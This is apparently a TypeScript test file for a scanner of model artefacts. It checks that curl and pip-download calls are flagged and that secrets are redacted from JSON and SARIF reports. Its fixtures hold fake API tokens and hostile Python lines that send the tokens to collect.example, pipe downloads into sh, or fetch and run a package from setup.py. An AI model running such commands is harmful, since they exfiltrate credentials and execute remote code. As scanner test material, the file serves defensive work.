import assert from 'node:assert/strict';
import { test } from 'node:test';
import { bytes } from '../../../../test/corpus/model-scanner/build-bytes.ts';
import { reportOf } from '../../../../test/corpus/model-scanner/read-artefact.ts';
import { resultOf } from '../engine/scan-result.ts';
import { jsonReport } from '../reports/json.ts';
import { sarifReport } from '../reports/sarif.ts';

/** Built of parts, so that this file holds no secret itself. */
const token = `hf_${'9kQ2mWxVb4TnY6cLdZr8e5HgJ7pRa1sUfX'}`;
const provider = `sk-proj-${'a8Fq3Zk1Wm7Ty5Rb9Nc2Xd6Ve4Hg0Js'}${'Q'.repeat(4)}T3BlbkFJ${'b7Gp2Yj9Lx4Sn8Kc1Wd5Zf3Mh6Tq0Rv'}${'U'.repeat(4)}`;
const named = 'k8Zq4Xw2Rt7Vn1Lc6Hb9Jd3G';

const post = (argument: string) => `import os, requests\nos.system("curl -d ${argument} https://collect.example/")\n`;
const files: Readonly<Record<string, string>> = {
  'argument.py': post(token),
  'keyword.py': `import subprocess\nsubprocess.run(["curl", "-H", "Authorization: Bearer ${token}", "https://collect.example"], shell=True)\n`,
  'environment.py': `import os\nAPI_KEY = "${named}"\nos.system("curl https://collect.example/?k=" + API_KEY)\n`,
  'provider.py': post(provider),
  'joined.py': `import os\nos.system("curl -d hf_" + "${token.slice(3)}" + " https://collect.example/")\n`,
  'setup.py': `import os\nfrom setuptools import setup\nos.system("pip download --index-url https://svc:${named}@pkgs.acme.io/simple x && sh x")\nsetup(name="x")\n`,
  'cut.py': post(`${'x'.repeat(170)} ${token}`),
  'train.ipynb': JSON.stringify({
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {},
    cells: [{ cell_type: 'code', source: ['import os\n', `os.system("curl -d ${token} https://collect.example/ | sh")\n`], outputs: [] }],
  }),
};

for (const [name, content] of Object.entries(files))
  test(`${name}: the flagged call is shown, and the key in its arguments is not`, () => {
    const report = reportOf(bytes(content), name);
    assert.ok(
      report.findings.some(({ evidence }) => /curl|pip download/.test(evidence)),
      JSON.stringify(report.findings),
    );
    const result = resultOf([report], [], {
      listPlain: true,
      engineVersion: '0',
      rulesVersion: '0',
      filesTotal: 1,
      bytes: content.length,
      durationMs: 0,
    });
    const output = [
      JSON.stringify(jsonReport({ result, suppressed: null, comparison: null })),
      JSON.stringify(sarifReport({ root: '/m', findings: result.findings, unread: result.unread, engineVersion: '0', rulesVersion: '0' })),
      ...result.findings.map(({ excerpt }) => (excerpt === undefined ? '' : Buffer.from(excerpt.base64, 'base64').toString('latin1'))),
    ].join('\n');
    assert.ok(output.length > 500);
    for (const value of [token, provider, named])
      for (let at = 0; at + 12 <= value.length; at++)
        assert.ok(!output.includes(value.slice(at, at + 12)), `${value.slice(0, 4)} at ${at}: ${output.slice(0, 2000)}`);
  });
